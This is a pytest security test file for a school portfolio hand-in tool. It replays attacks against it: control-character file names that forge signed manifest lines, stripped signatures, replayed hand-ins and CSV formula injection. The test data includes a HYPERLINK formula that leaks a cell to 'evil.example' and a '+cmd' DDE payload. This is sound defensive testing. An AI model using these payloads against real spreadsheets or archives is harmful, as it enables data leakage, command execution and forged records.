"""The hand-in attacked as a malicious student would (issue 28, items 1, 2, 3, 5, 12): each
attack replayed on a real snapshot, frozen by ``conformance.handin.freeze`` and signed with a real
Ed25519 key, then checked by ``check_snapshot``, ``verifier`` and ``bordereau``."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from dossiers import conforming
from helpers import run_cli as run

from portfolio.conformance.assess import assess
from portfolio.dossier.load import load_dossier
from portfolio.handin import snapshot as handin_module
from portfolio.handin.receipt import ReceiptRow, write_receipt
from portfolio.handin.snapshot import Handin, check_snapshot, freeze
from portfolio.util.errors import DossierError

PDF = b"%PDF-1.7\n% the PDF that was handed in\n"
OTHER_PDF = b"%PDF-1.7\n% any other PDF, put in its place later\n"


@pytest.fixture(scope="module")
def key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture
def public_pem(key, tmp_path) -> Path:
    path = tmp_path / "cle-ecole" / "cle.pub.pem"
    path.parent.mkdir()
    path.write_bytes(key.public_key().public_bytes(Encoding.PEM,
                                                   PublicFormat.SubjectPublicKeyInfo))
    return path


def hand_in(project: Path, root: Path, key: Ed25519PrivateKey | None) -> Path:
    """``freeze`` as ``rendre`` calls it, with a real conformance and a real key."""
    dossier = load_dossier(root)
    return freeze(project, dossier, Handin(pdf=PDF, conformance=assess(dossier, "rendre"),
                                           key=key))


def writable(folder: Path) -> None:
    """What the student who can write ``rendus/`` does first."""
    for path in [folder, *folder.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)


def rehash(folder: Path) -> None:
    """Write MANIFEST.sha256 again for the files as they are now (``sha256sum`` would)."""
    lines = [f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.relative_to(folder).as_posix()}"
             for p in sorted(folder.rglob("*"))
             if p.is_file() and p.name not in ("MANIFEST.sha256", "SIGNATURE.json")]
    (folder / "MANIFEST.sha256").write_text("\n".join(lines) + "\n", encoding="utf-8")


def forge_line(root: Path) -> str:
    """Plant the file whose name carries a second manifest line (the issue's attack)."""
    forged = (f"a\u2028{hashlib.sha256(OTHER_PDF).hexdigest()}  "
              f"dossier-{root.name}.pdf")
    (root / "images" / "a").write_bytes(b"same bytes")
    (root / "images" / forged).write_bytes(b"same bytes")
    return forged


# -- 1. A forged hand-in --------------------------------------------------------------------------


def test_a_name_that_forges_a_manifest_line_is_refused_at_freeze(project, make_dossier, key):
    root = conforming(make_dossier, project / "students")
    forge_line(root)
    with pytest.raises(DossierError) as error:
        hand_in(project, root, key)
    message = str(error.value)
    assert "students/ana/images/a\\u2028" in message           # named, on one line
    assert "nom de fichier avec un caractère invisible ou de contrôle (\\u2028)" in message
    assert "Renommez-le" in message and "python3 build.py rendre ana" in message
    assert not list((project / "rendus").rglob("RENDU.json"))


def test_a_forged_manifest_line_never_verifies(project, make_dossier, key, monkeypatch):
    """Had such a name been frozen (a snapshot made before the refusal), the manifest is still
    read one line per ``\\n``: the PDF swapped after the hand-in is caught."""
    root = conforming(make_dossier, project / "students")
    forged = forge_line(root)
    monkeypatch.setattr(handin_module, "unsafe_names", lambda *args: [])
    snapshot = hand_in(project, root, key)
    assert check_snapshot(snapshot, key.public_key()).ok           # untouched: intact
    writable(snapshot)
    (snapshot / "dossier-ana.pdf").write_bytes(OTHER_PDF)
    (snapshot / "sources" / "images" / forged).unlink()
    result = check_snapshot(snapshot, key.public_key())
    assert not result.ok
    messages = [p.message for p in result.problems]
    assert "fichier modifié depuis la remise : dossier-ana.pdf" in messages
    assert any(m.startswith("fichier manquant : sources/images/a\u2028") for m in messages)


NAMES = [   # (file name under images/, refused, escape named)
    ("a\u2028b.jpg", True, "\\u2028"),
    ("a\u2029b.jpg", True, "\\u2029"),
    ("a\u0085b.jpg", True, "\\x85"),
    ("a\rb.jpg", True, "\\x0d"),
    ("a\nb.jpg", True, "\\x0a"),
    ("a\x1cb.jpg", True, "\\x1c"),
    ("a\x7fb.jpg", True, "\\x7f"),
    ("a\tb.jpg", True, "\\x09"),
    ("lea\u200b.jpg", True, "\\u200b"),
    ("dossier\u2028x/photo.jpg", True, "\\u2028"),
    ("écume & saphir (1).jpg", False, None),
    ("a\\b.jpg", False, None),
    ("été.jpg", False, None),
]


@pytest.mark.parametrize("name, refused, shown", NAMES, ids=[repr(n[0]) for n in NAMES])
def test_names_that_would_break_the_manifest_are_refused_at_rendre(project, make_dossier, key,
                                                                   name, refused, shown):
    root = conforming(make_dossier, project / "students")
    (root / "images" / name).parent.mkdir(parents=True, exist_ok=True)
    (root / "images" / name).write_bytes(b"innocent")
    if refused:
        code, out = run(project, "rendre", "ana")
        assert code == 1
        assert "Dossier « ana » non rendu : des noms de fichiers ne peuvent pas entrer" in out
        assert f"({shown}) : il pourrait fausser le manifeste signé" in out
        assert "\u2028" not in out and "\r" not in out and "\x85" not in out
        assert all(line.startswith(("Dossier", "  ✗")) for line in out.splitlines()), out
        assert not (project / "rendus").exists()
        return
    snapshot = hand_in(project, root, key)        # an innocent name verifies, untouched
    assert check_snapshot(snapshot, key.public_key()).ok
    subprocess.run(["sha256sum", "--quiet", "-c", "MANIFEST.sha256"], cwd=snapshot, check=True)


# -- 2. A stripped signature ----------------------------------------------------------------------


def strip_signature(snapshot: Path) -> None:
    """Edit a file, delete SIGNATURE.json, "signature": null, manifest hashed again."""
    writable(snapshot)
    (snapshot / "sources" / "sections" / "01-objectifs.md").write_text("Recopié.\n")
    (snapshot / "SIGNATURE.json").unlink()
    record = json.loads((snapshot / "RENDU.json").read_text(encoding="utf-8"))
    record["signature"] = None
    (snapshot / "RENDU.json").write_text(json.dumps(record, ensure_ascii=False, indent=1))
    rehash(snapshot)


def test_a_stripped_signature_fails_when_the_school_has_a_key(project, make_dossier, key,
                                                              public_pem, tmp_path):
    snapshot = hand_in(project, conforming(make_dossier, project / "students"), key)
    strip_signature(snapshot)
    result = check_snapshot(snapshot, key.public_key())
    assert not result.ok and result.problems[0].message.startswith("non signé : ce rendu ne "
                                                                   "porte aucune signature")
    assert check_snapshot(snapshot).ok            # without any key: only the manifest speaks
    code, out = run(project, "verifier", "ana", "--cle-publique", str(public_pem))
    assert code == 1 and f"  ✗ rendus/ana/{snapshot.name} : non signé" in out
    # The school's own key (the public one beside the private one) is a key too.
    private = public_pem.with_name("cle.pem")
    code, out = run(project, "verifier", "ana", "--cle", str(private))
    assert code == 1 and f"  ✗ rendus/ana/{snapshot.name} : non signé" in out
    code, out = run(project, "bordereau", "--sortie", str(tmp_path / "b"), "--cle-publique",
                    str(public_pem))
    assert code == 1
    (table,) = (tmp_path / "b").glob("*.csv")
    row = next(csv.DictReader(io.StringIO(table.read_text()[1:]), delimiter=";"))
    assert (row["Signé"], row["Intact"]) == ("non", "non")


# -- 3. Replay ------------------------------------------------------------------------------------


def test_a_hand_in_copied_under_another_dossier_fails(project, make_dossier, key, public_pem,
                                                      tmp_path):
    students = project / "students"
    lea = hand_in(project, conforming(make_dossier, students, slug="lea"), key)
    ben = conforming(make_dossier, students, slug="ben")
    yml = ben / "dossier.yml"
    yml.write_text(yml.read_text().replace("01234567890", "02400000002"))
    hand_in(project, ben, key)
    copied = project / "rendus" / "zoe" / lea.name
    shutil.copytree(lea, copied)
    result = check_snapshot(copied, key.public_key())
    assert result.checked                          # the signature itself is Léa's, valid
    assert not result.ok and result.owner == "lea"
    code, out = run(project, "verifier", "--cle-publique", str(public_pem))
    assert code == 1
    assert f"  ✗ rendus/zoe/{lea.name} : copie du rendu de « lea »" in out
    assert "ce rendu est celui du dossier « lea » (RENDU.json), rangé dans rendus/zoe/" in out
    assert f"  ✗ rendus/lea/{lea.name} : numéro de candidat en double" in out
    assert "numéro de candidat 01234567890 en double : aussi celui du rendu de « zoe »." in out
    code, out = run(project, "bordereau", "--sortie", str(tmp_path / "b"), "--cle-publique",
                    str(public_pem))
    assert code == 1
    (table,) = (tmp_path / "b").glob("*.csv")
    rows = list(csv.DictReader(io.StringIO(table.read_text()[1:]), delimiter=";"))
    assert sorted((r["Remarque"], r["Intact"]) for r in rows) == [
        ("", "oui"),                                               # ben
        ("numéro en double (aussi : lea)", "non"),                 # zoe: Léa's copy
        ("numéro en double (aussi : zoe)", "oui")]                 # lea herself


# -- 5. Formulas in the receipt's CSV -------------------------------------------------------------

CELLS = [   # (what a student typed as title or name, the cell written)
    ('=HYPERLINK("http://evil.example/?"&A2,"Cliquez")',
     '\'=HYPERLINK("http://evil.example/?"&A2,"Cliquez")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Bague = écume", "Bague = écume"),
    ("Pendentif « Lune » + chaîne", "Pendentif « Lune » + chaîne"),
    ("'déjà cité", "'déjà cité"),
]


def test_receipt_cells_never_run_as_formulas(tmp_path):
    rows = [ReceiptRow(slug=f"d{i}", number=f"0240000000{i}", name=typed, title=typed,
                       voie="scolaire", session="2027",
                       pages={"principal": 3, "annexes": 2, "partie1": None}, handed_in=None,
                       pdf_hash="ab" * 8, signature="oui", intact=True, late=typed)
            for i, (typed, _) in enumerate(CELLS)]
    _, table = write_receipt(rows, tmp_path)
    text = table.read_bytes().decode("utf-8")[1:]
    read = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    for row, (typed, cell) in zip(read, CELLS, strict=True):
        assert (row["Candidat"], row["Titre"], row["Hors délai"]) == (cell, cell, cell), typed


def test_a_folder_with_a_classmates_address_cannot_hand_in_into_her_folder(project,
                                                                          make_dossier):
    """``Lea`` would freeze into ``rendus/lea/``, where Léa's own hand-ins are."""
    conforming(make_dossier, project / "students", slug="lea")
    conforming(make_dossier, project / "students", slug="Lea")
    for slug in ("Lea", "lea"):
        code, out = run(project, "rendre", slug)
        assert code == 1
        assert "auraient le même dossier de rendu (rendus/lea/)" in out
        assert "students/Lea" in out and "students/lea" in out
    assert not (project / "rendus").exists()


def test_a_killed_rendre_leaves_nothing_behind_next_time(project, make_dossier, key):
    """``kill -9`` during ``rendre`` leaves its hidden half-made snapshot; the next hand-in of
    that dossier removes it (its process is gone), never one still being made."""
    root = conforming(make_dossier, project / "students")
    gone = subprocess.Popen(["true"])
    gone.wait()
    stale = project / "rendus" / "ana" / f".2027-01-10T100000.tmp-{gone.pid}"
    alive = project / "rendus" / "ana" / f".2027-01-10T100000.tmp-{__import__('os').getpid()}"
    for folder in (stale, alive):
        (folder / "sources").mkdir(parents=True)
        (folder / "sources" / "photo.jpg").write_bytes(b"x" * 1000)
    hand_in(project, root, key)
    assert not stale.exists() and alive.exists()


def test_a_candidate_number_already_handed_in_is_refused(project, make_dossier, key):
    """Two candidates never share a number: Zoé's folder copying Léa's ``numero`` is refused
    at ``rendre`` once Léa has handed in, naming Léa's dossier; a number of her own passes."""
    lea = conforming(make_dossier, project / "students", slug="lea")
    zoe = conforming(make_dossier, project / "students", slug="zoe")
    hand_in(project, lea, key)
    code, out = run(project, "rendre", "zoe")
    assert code == 1
    assert "son numéro de candidat est déjà celui du dossier rendu « lea »" in out
    assert "students/zoe/dossier.yml" in out
    assert not (project / "rendus" / "zoe").exists()
    yml = zoe / "dossier.yml"
    yml.write_text(yml.read_text(encoding="utf-8").replace("01234567890", "01234567891"),
                   encoding="utf-8")
    code, out = run(project, "rendre", "zoe")
    assert code == 0, out
